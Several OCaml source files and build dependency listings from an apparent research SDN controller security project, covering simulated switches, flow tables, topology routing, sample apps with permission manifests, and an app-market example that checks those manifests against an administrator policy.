            else
              match Topology.shortest_path topo ~src:sw ~dst:dst_sw with
              | Some (_ :: next :: _) ->
                Option.map fst (Topology.link_ports_between topo ~src:sw ~dst:next)
              | _ -> None
          in
          match out_port with
          | None -> ()
          | Some port ->
            put sw
              (Flow_mod.add ~priority:200
                 ~match_:
                   (Match_fields.make ~dl_type:Types.Eth_ip
                      ~nw_proto:Types.Proto_tcp
                      ~nw_dst:(Match_fields.exact_ip dst.Topology.ip)
                      ~tp_dst:allowed_port ())
                 ~actions:[ Action.Output port ] ()))
        view.Api.switches)
    view.Api.hosts

let create ?(name = "firewall") () : t =
  let rules_installed = ref 0 in
  let refresh (ctx : App.ctx) =
    match ctx.App.call Api.Read_topology with
    | Api.Topology_of view -> install ctx view rules_installed
    | _ -> ()
  in
  let app =
    App.make
      ~subscriptions:[ Api.E_topology ]
      ~init:refresh
      ~handle:(fun ctx -> function
        | Events.Topology_changed _ -> refresh ctx
        | _ -> ())
      name
  in
  { app; rules_installed }

let app t = t.app
