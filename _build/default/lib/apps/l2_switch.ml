(* L2 learning switch — the paper's first evaluation scenario (§IX-A).

   Listens to packet-ins (ARP and anything else that misses), learns
   the source MAC's location, and either installs a forwarding rule and
   replays the packet towards a known destination or floods.  This is a
   faithful port of the OpenDaylight l2switch behaviour the paper
   benchmarks. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller

type t = {
  app : App.t;
  flow_mods_issued : int ref;
  floods : int ref;
}

(** The permission manifest this app ships with: exactly what a
    learning switch needs and nothing more. *)
let manifest_src =
  "PERM pkt_in_event\n\
   PERM read_payload\n\
   PERM insert_flow LIMITING ACTION FORWARD\n\
   PERM send_pkt_out LIMITING FROM_PKT_IN\n"

let create ?(name = "l2switch") ?(idle_timeout = 0) () : t =
  (* mac tables: dpid -> (mac -> port) *)
  let tables : (dpid, (mac, port_no) Hashtbl.t) Hashtbl.t = Hashtbl.create 16 in
  let table_of dpid =
    match Hashtbl.find_opt tables dpid with
    | Some tbl -> tbl
    | None ->
      let tbl = Hashtbl.create 32 in
      Hashtbl.replace tables dpid tbl;
      tbl
  in
  let flow_mods_issued = ref 0 and floods = ref 0 in
  let handle (ctx : App.ctx) = function
    | Events.Packet_in pi ->
      let tbl = table_of pi.Message.dpid in
      let pkt = pi.Message.packet in
      Hashtbl.replace tbl pkt.Packet.dl_src pi.Message.in_port;
      (match Hashtbl.find_opt tbl pkt.Packet.dl_dst with
      | Some out_port when out_port <> pi.Message.in_port ->
        (* Known destination: pin a flow and replay the packet. *)
        let match_ = Match_fields.make ~dl_dst:pkt.Packet.dl_dst () in
        let fm =
          Flow_mod.add ~priority:100 ~idle_timeout ~match_
            ~actions:[ Action.Output out_port ] ()
        in
        incr flow_mods_issued;
        ignore (ctx.App.call (Api.Install_flow (pi.Message.dpid, fm)));
        ignore
          (ctx.App.call
             (Api.Send_packet_out
                { dpid = pi.Message.dpid; port = out_port; packet = pkt;
                  from_pkt_in = true }))
      | _ ->
        (* Unknown destination (or hairpin): flood. *)
        incr floods;
        ignore
          (ctx.App.call
             (Api.Send_packet_out
                { dpid = pi.Message.dpid; port = -1; packet = pkt;
                  from_pkt_in = true })))
    | _ -> ()
  in
  { app = App.make ~subscriptions:[ Api.E_packet_in ] ~handle name;
    flow_mods_issued; floods }

let app t = t.app
