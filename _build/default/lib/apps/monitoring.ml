(* Tenant monitoring app — the paper's Scenario 1 (§VII).

   Supervises network usage: on every "tick" it reads the (visible)
   topology and port statistics and reports them to the management
   collector over the host network.  The app also exposes a web
   management interface — modelled as the host-network report channel —
   which is the vulnerability surface Scenario 1 assumes. *)

open Shield_openflow
open Shield_controller

(** The manifest the app ships with, verbatim from §VII — including the
    two developer stubs (LocalTopo, AdminRange) the administrator
    completes at deployment. *)
let manifest_src =
  "PERM visible_topology LIMITING LocalTopo\n\
   PERM read_statistics\n\
   PERM host_network LIMITING AdminRange\n\
   PERM insert_flow\n"

(** Scenario 1's administrator policy, verbatim from §VII: the stub
    bindings plus the network-access/insert-flow mutual exclusion. *)
let policy_src ~switches ~admin_subnet ~admin_mask =
  Fmt.str
    "LET LocalTopo = { SWITCH %s }\n\
     LET AdminRange = { IP_DST %s MASK %s }\n\
     ASSERT EITHER { PERM host_network } OR { PERM insert_flow }\n"
    (String.concat "," (List.map string_of_int switches))
    admin_subnet admin_mask

type t = { app : App.t; reports_sent : int ref; reports_failed : int ref }

let tick_channel = "monitor-tick"

let create ?(name = "monitoring") ~collector_ip ?(collector_port = 8080) () : t =
  let reports_sent = ref 0 and reports_failed = ref 0 in
  let report (ctx : App.ctx) =
    let topo_summary =
      match ctx.App.call Api.Read_topology with
      | Api.Topology_of view ->
        Printf.sprintf "switches=%d hosts=%d"
          (List.length view.Api.switches)
          (List.length view.Api.hosts)
      | _ -> "topology-unavailable"
    in
    let stats_summary =
      match
        ctx.App.call (Api.Read_stats (Stats.request Stats.Port_level))
      with
      | Api.Stats_result (Stats.Port_stats l) ->
        Printf.sprintf "port-stats=%d" (List.length l)
      | _ -> "stats-unavailable"
    in
    match
      ctx.App.call
        (Api.Syscall
           (Api.Net_connect
              { dst = collector_ip; dst_port = collector_port;
                payload = topo_summary ^ " " ^ stats_summary }))
    with
    | Api.Done -> incr reports_sent
    | _ -> incr reports_failed
  in
  let app =
    App.make
      ~subscriptions:[ Api.E_app tick_channel ]
      ~handle:(fun ctx -> function
        | Events.App_published { tag; _ } when tag = tick_channel -> report ctx
        | _ -> ())
      name
  in
  { app; reports_sent; reports_failed }

let app t = t.app

(** The tick event a harness feeds to trigger one monitoring round. *)
let tick_event =
  Events.App_published { source = "env"; tag = tick_channel; payload = "" }
