lib/network/topology.ml: Fmt Hashtbl List Option Printf Queue Shield_openflow
