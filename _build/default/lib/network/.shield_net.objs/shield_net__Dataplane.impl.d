lib/network/dataplane.ml: Flow_table Hashtbl List Packet Printf Shield_openflow Stats Switch Topology
