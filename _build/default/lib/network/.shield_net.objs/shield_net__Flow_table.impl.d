lib/network/flow_table.ml: Action Flow_mod Fmt Int64 List Match_fields Packet Shield_openflow Stats
