lib/network/switch.ml: Action Flow_table Hashtbl Int64 List Packet Shield_openflow Stats
