(* Network topology: switches, inter-switch links and attached hosts.

   The graph is undirected at the link level but stored as directed port
   pairs so that "which port leads towards X" queries are direct.  All
   mutation goes through functions that keep the port maps consistent,
   and shortest paths are computed by BFS (unit link weights). *)

open Shield_openflow.Types

type endpoint = { dpid : dpid; port : port_no }

type link = { src : endpoint; dst : endpoint }

type host = {
  name : string;
  mac : mac;
  ip : ipv4;
  attachment : endpoint;
}

type t = {
  mutable switches : dpid list;
  mutable links : link list;  (** Directed: both directions stored. *)
  mutable hosts : host list;
}

let create () = { switches = []; links = []; hosts = [] }

let switches t = t.switches
let hosts t = t.hosts

(** Unique undirected links (src dpid < dst dpid). *)
let undirected_links t =
  List.filter (fun l -> l.src.dpid < l.dst.dpid) t.links

let add_switch t dpid =
  if not (List.mem dpid t.switches) then t.switches <- dpid :: t.switches

let remove_switch t dpid =
  t.switches <- List.filter (( <> ) dpid) t.switches;
  t.links <-
    List.filter (fun l -> l.src.dpid <> dpid && l.dst.dpid <> dpid) t.links;
  t.hosts <- List.filter (fun h -> h.attachment.dpid <> dpid) t.hosts

let add_link t ~src ~dst =
  add_switch t src.dpid;
  add_switch t dst.dpid;
  let exists =
    List.exists (fun l -> l.src = src && l.dst = dst) t.links
  in
  if not exists then
    t.links <- { src; dst } :: { src = dst; dst = src } :: t.links

let remove_link t ~src ~dst =
  t.links <-
    List.filter
      (fun l -> not ((l.src = src && l.dst = dst) || (l.src = dst && l.dst = src)))
      t.links

let add_host t ~name ~mac ~ip ~attachment =
  add_switch t attachment.dpid;
  t.hosts <- { name; mac; ip; attachment } :: t.hosts

let host_by_name t name = List.find_opt (fun h -> h.name = name) t.hosts
let host_by_mac t mac = List.find_opt (fun h -> h.mac = mac) t.hosts
let host_by_ip t ip = List.find_opt (fun h -> h.ip = ip) t.hosts

let host_at t (ep : endpoint) =
  List.find_opt (fun h -> h.attachment = ep) t.hosts

(** The switch/port on the far side of [ep], if [ep] is an inter-switch
    port. *)
let peer_of t (ep : endpoint) =
  List.find_map (fun l -> if l.src = ep then Some l.dst else None) t.links

let neighbors t dpid =
  List.filter_map
    (fun l -> if l.src.dpid = dpid then Some (l.src.port, l.dst) else None)
    t.links

(** Ports of [dpid] in use: inter-switch ports and host attachments. *)
let ports_of t dpid =
  let link_ports =
    List.filter_map
      (fun l -> if l.src.dpid = dpid then Some l.src.port else None)
      t.links
  in
  let host_ports =
    List.filter_map
      (fun h -> if h.attachment.dpid = dpid then Some h.attachment.port else None)
      t.hosts
  in
  List.sort_uniq compare (link_ports @ host_ports)

(** BFS shortest path between two switches as a dpid list (inclusive).
    [None] when disconnected. *)
let shortest_path t ~src ~dst =
  if src = dst then Some [ src ]
  else if not (List.mem src t.switches && List.mem dst t.switches) then None
  else begin
    let prev = Hashtbl.create 16 in
    let visited = Hashtbl.create 16 in
    Hashtbl.replace visited src ();
    let q = Queue.create () in
    Queue.push src q;
    let found = ref false in
    while (not !found) && not (Queue.is_empty q) do
      let u = Queue.pop q in
      List.iter
        (fun (_, peer) ->
          if not (Hashtbl.mem visited peer.dpid) then begin
            Hashtbl.replace visited peer.dpid ();
            Hashtbl.replace prev peer.dpid u;
            if peer.dpid = dst then found := true else Queue.push peer.dpid q
          end)
        (neighbors t u)
    done;
    if not !found then None
    else begin
      let rec build acc node =
        if node = src then src :: acc
        else build (node :: acc) (Hashtbl.find prev node)
      in
      Some (build [ dst ] (Hashtbl.find prev dst))
    end
  end

(** For consecutive switches [a; b] on a path, the (out-port of a,
    in-port of b) pair. *)
let link_ports_between t ~src ~dst =
  List.find_map
    (fun l ->
      if l.src.dpid = src && l.dst.dpid = dst then Some (l.src.port, l.dst.port)
      else None)
    t.links

(** Hop-by-hop port walk along a switch path: for each switch the
    (in_port option, dpid, out_port option); [None] in-port on the first
    hop and [None] out-port on the last are filled by the caller from
    host attachments. *)
let path_hops t (path : dpid list) =
  let rec go acc in_port = function
    | [] -> List.rev acc
    | [ last ] -> List.rev ((in_port, last, None) :: acc)
    | a :: (b :: _ as rest) -> (
      match link_ports_between t ~src:a ~dst:b with
      | Some (out_p, next_in) -> go ((in_port, a, Some out_p) :: acc) (Some next_in) rest
      | None -> invalid_arg "path_hops: consecutive switches not linked")
  in
  go [] None path

let connected t ~src ~dst = Option.is_some (shortest_path t ~src ~dst)

(* Canned topologies ------------------------------------------------------ *)

(** Linear chain of [n] switches (port 1 towards lower dpid, port 2
    towards higher), with one host per switch on port 3. *)
let linear ?(hosts_per_switch = 1) n =
  let t = create () in
  for i = 1 to n do
    add_switch t i
  done;
  for i = 1 to n - 1 do
    add_link t
      ~src:{ dpid = i; port = 2 }
      ~dst:{ dpid = i + 1; port = 1 }
  done;
  for i = 1 to n do
    for h = 1 to hosts_per_switch do
      let idx = ((i - 1) * hosts_per_switch) + h in
      add_host t
        ~name:(Printf.sprintf "h%d" idx)
        ~mac:(mac_of_int (0x0A0000000000 lor idx))
        ~ip:(ipv4_of_octets 10 0 (idx lsr 8) (idx land 0xFF))
        ~attachment:{ dpid = i; port = 2 + h }
    done
  done;
  t

(** Two-level tree: one root, [fanout] leaves, [hosts_per_leaf] hosts per
    leaf switch. *)
let tree ~fanout ~hosts_per_leaf =
  let t = create () in
  add_switch t 1;
  for leaf = 1 to fanout do
    let dpid = 1 + leaf in
    add_link t ~src:{ dpid = 1; port = leaf } ~dst:{ dpid; port = 1 };
    for h = 1 to hosts_per_leaf do
      let idx = ((leaf - 1) * hosts_per_leaf) + h in
      add_host t
        ~name:(Printf.sprintf "h%d" idx)
        ~mac:(mac_of_int (0x0A0000000000 lor idx))
        ~ip:(ipv4_of_octets 10 0 (idx lsr 8) (idx land 0xFF))
        ~attachment:{ dpid; port = 1 + h }
    done
  done;
  t

let pp_endpoint ppf ep = Fmt.pf ppf "s%d:p%d" ep.dpid ep.port

let pp ppf t =
  Fmt.pf ppf "@[<v>switches: %a@,links: %a@,hosts: %a@]"
    Fmt.(list ~sep:sp int)
    (List.sort compare t.switches)
    Fmt.(list ~sep:sp (fun ppf l -> Fmt.pf ppf "%a-%a" pp_endpoint l.src pp_endpoint l.dst))
    (undirected_links t)
    Fmt.(list ~sep:sp (fun ppf h -> Fmt.pf ppf "%s@%a" h.name pp_endpoint h.attachment))
    t.hosts
