(* Priority-ordered flow table with OpenFlow 1.0 add/modify/delete
   semantics and per-entry counters. *)

open Shield_openflow

type entry = {
  match_ : Match_fields.t;
  priority : int;
  actions : Action.t list;
  cookie : int;
  idle_timeout : int;
  hard_timeout : int;
  mutable packet_count : int64;
  mutable byte_count : int64;
  mutable install_time : int;  (** Logical clock tick of installation. *)
}

type t = {
  mutable entries : entry list;  (** Sorted by decreasing priority. *)
  mutable clock : int;
}

let create () = { entries = []; clock = 0 }
let size t = List.length t.entries
let entries t = t.entries
let tick t = t.clock <- t.clock + 1

let entry_of_flow_mod ~clock (fm : Flow_mod.t) =
  { match_ = fm.match_; priority = fm.priority; actions = fm.actions;
    cookie = fm.cookie; idle_timeout = fm.idle_timeout;
    hard_timeout = fm.hard_timeout; packet_count = 0L; byte_count = 0L;
    install_time = clock }

let insert_sorted entry entries =
  let rec go = function
    | [] -> [ entry ]
    | e :: rest when entry.priority > e.priority -> entry :: e :: rest
    | e :: rest -> e :: go rest
  in
  go entries

let same_rule a ~match_ ~priority =
  a.priority = priority && Match_fields.equal a.match_ match_

(** Apply [fm].  [Add] replaces an identical (match, priority) entry;
    [Modify] rewrites actions of all entries subsumed by the match;
    [Delete] removes all entries subsumed by the match (any priority),
    returning the removed entries so flow-removed events can fire. *)
let apply t (fm : Flow_mod.t) : entry list =
  match fm.command with
  | Add ->
    let removed, kept =
      List.partition
        (fun e -> same_rule e ~match_:fm.match_ ~priority:fm.priority)
        t.entries
    in
    t.entries <- insert_sorted (entry_of_flow_mod ~clock:t.clock fm) kept;
    removed
  | Modify ->
    let touched = ref false in
    t.entries <-
      List.map
        (fun e ->
          if Match_fields.subsumes ~outer:fm.match_ ~inner:e.match_ then begin
            touched := true;
            { e with actions = fm.actions; cookie = fm.cookie }
          end
          else e)
        t.entries;
    if not !touched then
      (* OF 1.0: MODIFY with no matching entry behaves as ADD. *)
      t.entries <-
        insert_sorted (entry_of_flow_mod ~clock:t.clock fm) t.entries;
    []
  | Delete ->
    let removed, kept =
      List.partition
        (fun e -> Match_fields.subsumes ~outer:fm.match_ ~inner:e.match_)
        t.entries
    in
    t.entries <- kept;
    removed

(** Highest-priority entry matching [pkt]; bumps its counters. *)
let lookup t ~in_port (pkt : Packet.t) =
  let rec first = function
    | [] -> None
    | e :: rest ->
      if Match_fields.matches e.match_ ~in_port pkt then Some e
      else first rest
  in
  match first t.entries with
  | Some e ->
    e.packet_count <- Int64.add e.packet_count 1L;
    e.byte_count <- Int64.add e.byte_count (Int64.of_int (Packet.size pkt));
    Some e
  | None -> None

(** Entries whose match is subsumed by [pattern] ([None] = all). *)
let query t (pattern : Match_fields.t option) =
  match pattern with
  | None -> t.entries
  | Some p ->
    List.filter
      (fun e -> Match_fields.subsumes ~outer:p ~inner:e.match_)
      t.entries

let flow_stats t pattern : Stats.flow_stat list =
  List.map
    (fun e ->
      { Stats.match_ = e.match_; priority = e.priority; cookie = e.cookie;
        packet_count = e.packet_count; byte_count = e.byte_count;
        duration_sec = t.clock - e.install_time })
    (query t pattern)

(** Count of entries installed with [cookie], for the table-size filter. *)
let count_by_cookie t cookie =
  List.length (List.filter (fun e -> e.cookie = cookie) t.entries)

(** Expire idle/hard-timed-out entries relative to the logical clock.
    Idle expiry is approximated: an entry with packet_count = 0 counts as
    idle since installation. *)
let expire t =
  let expired, kept =
    List.partition
      (fun e ->
        let age = t.clock - e.install_time in
        (e.hard_timeout > 0 && age >= e.hard_timeout)
        || (e.idle_timeout > 0 && e.packet_count = 0L && age >= e.idle_timeout))
      t.entries
  in
  t.entries <- kept;
  expired

let pp_entry ppf e =
  Fmt.pf ppf "@[<h>prio=%d [%a] -> %a cookie=%d pkts=%Ld@]" e.priority
    Match_fields.pp e.match_ Action.pp_list e.actions e.cookie e.packet_count

let pp ppf t = Fmt.(vbox (list pp_entry)) ppf t.entries
