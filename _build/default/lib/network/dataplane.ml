(* The simulated data plane: topology + per-switch state + packet walk.

   [inject] releases a packet at a host (or raw switch port) and walks it
   through flow tables and links until it is delivered to hosts, punted
   to the controller, dropped, or the hop limit trips (loop detection —
   the observable the route-verification tests and attack PoCs rely on). *)

open Shield_openflow
open Shield_openflow.Types

type t = {
  topo : Topology.t;
  switches : (dpid, Switch.t) Hashtbl.t;
  hop_limit : int;
}

type delivery = {
  host : Topology.host;
  packet : Packet.t;
  path : dpid list;  (** Switches traversed, in order. *)
}

type punt = { dpid : dpid; in_port : port_no; packet : Packet.t }

type result = {
  delivered : delivery list;
  punted : punt list;
  dropped : int;
  looped : bool;  (** Hop limit exceeded somewhere. *)
}

let empty_result = { delivered = []; punted = []; dropped = 0; looped = false }

let merge a b =
  { delivered = a.delivered @ b.delivered;
    punted = a.punted @ b.punted;
    dropped = a.dropped + b.dropped;
    looped = a.looped || b.looped }

let create ?(hop_limit = 64) (topo : Topology.t) =
  let switches = Hashtbl.create 16 in
  List.iter
    (fun dpid ->
      Hashtbl.replace switches dpid
        (Switch.create ~dpid ~ports:(Topology.ports_of topo dpid)))
    (Topology.switches topo);
  { topo; switches; hop_limit }

let switch t dpid =
  match Hashtbl.find_opt t.switches dpid with
  | Some sw -> sw
  | None -> invalid_arg (Printf.sprintf "dataplane: unknown switch %d" dpid)

let switch_opt t dpid = Hashtbl.find_opt t.switches dpid

let apply_flow_mod t dpid fm = Switch.apply_flow_mod (switch t dpid) fm

(* Packet walk ------------------------------------------------------------ *)

let rec walk t ~dpid ~in_port ~hops ~path pkt : result =
  if hops > t.hop_limit then { empty_result with looped = true }
  else begin
    let sw = switch t dpid in
    let outputs = Switch.process sw ~in_port pkt in
    let path = path @ [ dpid ] in
    List.fold_left
      (fun acc out ->
        merge acc (follow_output t ~dpid ~hops ~path out))
      empty_result outputs
  end

and follow_output t ~dpid ~hops ~path = function
  | Switch.Dropped -> { empty_result with dropped = 1 }
  | Switch.To_controller packet ->
    (* in_port of the punt is the port the packet came in on; the walk
       records it as the last element the caller passed.  For simplicity
       we re-derive it: a To_controller at [dpid] keeps the ingress port
       embedded in the punt we built below in [emit]. *)
    { empty_result with punted = [ { dpid; in_port = 0; packet } ] }
  | Switch.Forward (port, packet) -> (
    let ep = { Topology.dpid; port } in
    match Topology.host_at t.topo ep with
    | Some host ->
      { empty_result with delivered = [ { host; packet; path } ] }
    | None -> (
      match Topology.peer_of t.topo ep with
      | Some peer ->
        walk t ~dpid:peer.dpid ~in_port:peer.port ~hops:(hops + 1) ~path packet
      | None ->
        (* Dangling port: packet leaves the simulated network. *)
        { empty_result with dropped = 1 }))

(** Correct punts to carry their real ingress port: wrap [walk] so the
    first-level punt (at the ingress switch) records [in_port]. *)
let walk_fixed t ~dpid ~in_port ~hops ~path pkt =
  let r = walk t ~dpid ~in_port ~hops ~path pkt in
  { r with
    punted =
      List.map
        (fun (p : punt) ->
          if p.dpid = dpid && p.in_port = 0 then { p with in_port } else p)
        r.punted }

(** Inject [pkt] at switch [dpid] port [in_port]. *)
let inject_at t ~dpid ~in_port pkt =
  walk_fixed t ~dpid ~in_port ~hops:0 ~path:[] pkt

(** Inject [pkt] as sent by [host]. *)
let inject_from_host t (host : Topology.host) pkt =
  inject_at t ~dpid:host.attachment.dpid ~in_port:host.attachment.port pkt

(** Emit a controller packet-out at [dpid]/[port] and follow it. *)
let packet_out t ~dpid ~port pkt : result =
  let sw = switch t dpid in
  let outputs = Switch.packet_out sw ~port pkt in
  List.fold_left
    (fun acc out -> merge acc (follow_output t ~dpid ~hops:0 ~path:[ dpid ] out))
    empty_result outputs

(* Statistics ------------------------------------------------------------- *)

let selected_dpids t = function
  | Some d -> if Hashtbl.mem t.switches d then [ d ] else []
  | None ->
    Hashtbl.fold (fun d _ acc -> d :: acc) t.switches [] |> List.sort compare

let stats t (req : Stats.request) : Stats.reply =
  let dpids = selected_dpids t req.dpid_filter in
  match req.level with
  | Stats.Flow_level ->
    Stats.Flow_stats
      (List.map (fun d -> (d, Switch.flow_stats (switch t d) req.match_filter)) dpids)
  | Stats.Port_level ->
    Stats.Port_stats (List.map (fun d -> (d, Switch.port_stats (switch t d))) dpids)
  | Stats.Switch_level ->
    Stats.Switch_stats (List.map (fun d -> Switch.switch_stat (switch t d)) dpids)

(** Advance all switch logical clocks and return expired entries as
    (dpid, entry) pairs. *)
let tick t =
  Hashtbl.fold
    (fun dpid sw acc ->
      Flow_table.tick sw.Switch.table;
      List.map (fun e -> (dpid, e)) (Flow_table.expire sw.Switch.table) @ acc)
    t.switches []

(* Route probing ---------------------------------------------------------- *)

(** The switch path a unicast packet from [src] to [dst] host currently
    takes, or [`Delivered]/[`Dropped]/[`Punted]/[`Looped] summary.  Used
    by tests and attack PoCs to observe forwarding behaviour without
    mutating counters beyond one probe. *)
type probe =
  | Delivered_to of string * dpid list
  | Punted_at of dpid
  | Dropped_
  | Looped_

let probe t ~(src : Topology.host) ~(dst : Topology.host) ?(tp_dst = 80)
    ?(tp_src = 12345) () =
  let pkt =
    Packet.tcp ~src:src.mac ~dst:dst.mac ~nw_src:src.ip ~nw_dst:dst.ip ~tp_src
      ~tp_dst ()
  in
  let r = inject_from_host t src pkt in
  if r.looped then Looped_
  else
    match (r.delivered, r.punted) with
    | d :: _, _ -> Delivered_to (d.host.name, d.path)
    | [], p :: _ -> Punted_at p.dpid
    | [], [] -> Dropped_
