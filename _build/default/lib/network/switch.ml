(* A simulated OpenFlow switch: a flow table plus port counters.

   [process] implements the ingress pipeline: look up the table, apply
   actions, emit per-port outputs and/or a packet-in.  Port counters
   feed the port-level statistics replies. *)

open Shield_openflow
open Shield_openflow.Types

type port_counters = {
  mutable rx_packets : int64;
  mutable tx_packets : int64;
  mutable rx_bytes : int64;
  mutable tx_bytes : int64;
  mutable rx_dropped : int64;
  mutable tx_dropped : int64;
}

type t = {
  dpid : dpid;
  table : Flow_table.t;
  ports : (port_no, port_counters) Hashtbl.t;
  mutable ports_up : port_no list;
}

type output =
  | Forward of port_no * Packet.t
  | To_controller of Packet.t
  | Dropped

let create ~dpid ~ports =
  let tbl = Hashtbl.create 8 in
  List.iter
    (fun p ->
      Hashtbl.replace tbl p
        { rx_packets = 0L; tx_packets = 0L; rx_bytes = 0L; tx_bytes = 0L;
          rx_dropped = 0L; tx_dropped = 0L })
    ports;
  { dpid; table = Flow_table.create (); ports = tbl; ports_up = ports }

let counters t port =
  match Hashtbl.find_opt t.ports port with
  | Some c -> c
  | None ->
    let c =
      { rx_packets = 0L; tx_packets = 0L; rx_bytes = 0L; tx_bytes = 0L;
        rx_dropped = 0L; tx_dropped = 0L }
    in
    Hashtbl.replace t.ports port c;
    if not (List.mem port t.ports_up) then t.ports_up <- port :: t.ports_up;
    c

let apply_flow_mod t fm = Flow_table.apply t.table fm

let note_rx t ~port pkt =
  let c = counters t port in
  c.rx_packets <- Int64.add c.rx_packets 1L;
  c.rx_bytes <- Int64.add c.rx_bytes (Int64.of_int (Packet.size pkt))

let note_tx t ~port pkt =
  let c = counters t port in
  c.tx_packets <- Int64.add c.tx_packets 1L;
  c.tx_bytes <- Int64.add c.tx_bytes (Int64.of_int (Packet.size pkt))

(** Run [pkt] arriving on [in_port] through the table.  A table miss
    yields [To_controller]; an empty action list yields [Dropped]. *)
let process t ~in_port (pkt : Packet.t) : output list =
  note_rx t ~port:in_port pkt;
  match Flow_table.lookup t.table ~in_port pkt with
  | None ->
    (* Table miss: OpenFlow 1.0 default is send-to-controller. *)
    [ To_controller pkt ]
  | Some entry ->
    if Action.is_drop entry.actions then begin
      (counters t in_port).rx_dropped <-
        Int64.add (counters t in_port).rx_dropped 1L;
      [ Dropped ]
    end
    else begin
      let eff = Action.apply entry.actions pkt in
      let flood_ports =
        if eff.flood then List.filter (( <> ) in_port) t.ports_up else []
      in
      let outs =
        List.map
          (fun p ->
            note_tx t ~port:p eff.packet;
            Forward (p, eff.packet))
          (eff.out_ports @ flood_ports)
      in
      if eff.to_controller then To_controller eff.packet :: outs else outs
    end

(** Emit [pkt] on [port] without a table lookup — the packet-out path. *)
let packet_out t ~port pkt : output list =
  if port = -1 then
    (* Port -1 encodes FLOOD in our packet-out API. *)
    List.map
      (fun p ->
        note_tx t ~port:p pkt;
        Forward (p, pkt))
      t.ports_up
  else begin
    note_tx t ~port pkt;
    [ Forward (port, pkt) ]
  end

let flow_stats t pattern = Flow_table.flow_stats t.table pattern

let port_stats t : Stats.port_stat list =
  Hashtbl.fold
    (fun port_no c acc ->
      { Stats.port_no; rx_packets = c.rx_packets; tx_packets = c.tx_packets;
        rx_bytes = c.rx_bytes; tx_bytes = c.tx_bytes;
        rx_dropped = c.rx_dropped; tx_dropped = c.tx_dropped }
      :: acc)
    t.ports []
  |> List.sort (fun (a : Stats.port_stat) b -> compare a.port_no b.port_no)

let switch_stat t : Stats.switch_stat =
  let total_packets, total_bytes =
    List.fold_left
      (fun (p, b) (e : Flow_table.entry) ->
        (Int64.add p e.packet_count, Int64.add b e.byte_count))
      (0L, 0L) (Flow_table.entries t.table)
  in
  { Stats.dpid = t.dpid; flow_count = Flow_table.size t.table; total_packets;
    total_bytes }
