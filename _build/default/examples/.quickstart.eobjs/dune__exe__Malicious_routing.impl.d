examples/malicious_routing.ml: Attacks Dataplane Engine Firewall Fmt Kernel List Option Ownership Perm_parser Routing Runtime Sandbox Sdnshield Shield_apps Shield_controller Shield_net Topology
