examples/policy_templates.ml: Fmt List Perm Perm_parser Policy_parser Reconcile Sdnshield
