examples/app_market.mli:
