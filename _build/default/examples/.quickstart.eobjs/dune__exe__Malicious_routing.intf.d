examples/malicious_routing.mli:
