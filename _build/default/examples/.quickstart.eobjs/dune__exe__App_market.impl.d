examples/app_market.ml: Api App Dataplane Engine Fmt Kernel List Ownership Perm Perm_parser Policy_parser Reconcile Runtime Sdnshield Shield_controller Shield_net Token Topology
