examples/policy_templates.mli:
