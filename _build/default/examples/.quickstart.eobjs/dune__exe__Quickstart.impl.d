examples/quickstart.ml: Action Api Engine Flow_mod Fmt Match_fields Ownership Packet Perm Perm_parser Sdnshield Shield_controller Shield_openflow
