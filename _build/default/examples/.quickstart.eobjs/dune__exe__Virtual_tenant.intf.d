examples/virtual_tenant.mli:
