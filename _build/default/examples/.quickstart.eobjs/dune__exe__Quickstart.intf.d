examples/quickstart.mli:
