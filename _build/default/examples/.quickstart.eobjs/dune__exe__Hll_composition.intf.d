examples/hll_composition.mli:
