examples/monitoring_tenant.mli:
