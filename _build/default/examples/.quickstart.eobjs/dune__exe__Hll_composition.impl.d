examples/hll_composition.ml: Action Api Compiler Dataplane Deploy Engine Fmt Kernel List Ownership Packet Perm_parser Sdnshield Shield_controller Shield_hll Shield_net Shield_openflow Syntax Topology
