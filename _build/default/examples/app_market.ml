(* An SDN app market install pipeline — the scenario of the paper's
   title.  Apps arrive from the market with developer-written permission
   manifests of varying quality; the administrator maintains one local
   security policy.  For each install:

     1. the reconciliation engine customises the requested permissions
        with the local policy (expanding stubs, repairing violations),
     2. a permission engine is compiled from the final manifest,
     3. load-time access control refuses apps whose declared API usage
        exceeds what they ended up being granted,
     4. survivors run, fully mediated.

   Run with: dune exec examples/app_market.exe *)

open Shield_net
open Shield_controller
open Sdnshield

(* The market catalogue: (name, declared capabilities, manifest). *)
let catalogue =
  [ ( "flow-visualizer",
      [ Api.Cap_flow_read; Api.Cap_topology_read ],
      "PERM read_flow_table LIMITING OWN_FLOWS OR IP_DST 10.0.0.0 MASK 255.0.0.0\n\
       PERM visible_topology\nPERM topology_event" );
    ( "auto-bandwidth",
      [ Api.Cap_stats; Api.Cap_flow_write ],
      "PERM read_statistics LIMITING PORT_LEVEL\n\
       PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS\nPERM flow_event" );
    ( "cloud-backup-agent",
      (* Greedy: wants to write flows AND phone home. *)
      [ Api.Cap_flow_write; Api.Cap_host_network ],
      "PERM insert_flow\nPERM host_network\nPERM file_system\nPERM read_statistics" );
    ( "telemetry-uploader",
      [ Api.Cap_stats; Api.Cap_host_network ],
      "PERM read_statistics\nPERM host_network LIMITING CollectorRange" ) ]

(* The administrator's site policy. *)
let site_policy =
  "LET CollectorRange = { IP_DST 10.1.0.0 MASK 255.255.0.0 }\n\
   ASSERT EITHER { PERM host_network } OR { PERM insert_flow }\n\
   ASSERT EITHER { PERM host_network } OR { PERM read_payload }"

let () =
  Fmt.pr "=== SDN app market: install pipeline ===@.@.";
  let policy = Policy_parser.of_string_exn site_policy in
  let requested =
    List.map (fun (name, _, src) -> (name, Perm_parser.manifest_exn src)) catalogue
  in
  (* 1. Reconcile the whole batch against the site policy. *)
  let report = Reconcile.run ~apps:requested policy in
  Fmt.pr "--- Reconciliation ---@.";
  if report.Reconcile.violations = [] then Fmt.pr "no violations@.";
  List.iter
    (fun v -> Fmt.pr "%a@." Reconcile.pp_violation v)
    report.Reconcile.violations;

  (* 2-4. Build engines, apply load-time checks, start the survivors. *)
  let topo = Topology.linear 3 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let ownership = Ownership.create () in
  let apps =
    List.mapi
      (fun i (name, uses, _) ->
        let final = List.assoc name report.Reconcile.manifests in
        let engine =
          Engine.create ~topo ~ownership ~app_name:name ~cookie:(i + 1) final
        in
        (App.make ~uses name, Engine.checker engine))
      catalogue
  in
  let rt =
    Runtime.create ~load_check:Runtime.Reject_at_load ~mode:Runtime.Monolithic
      kernel apps
  in
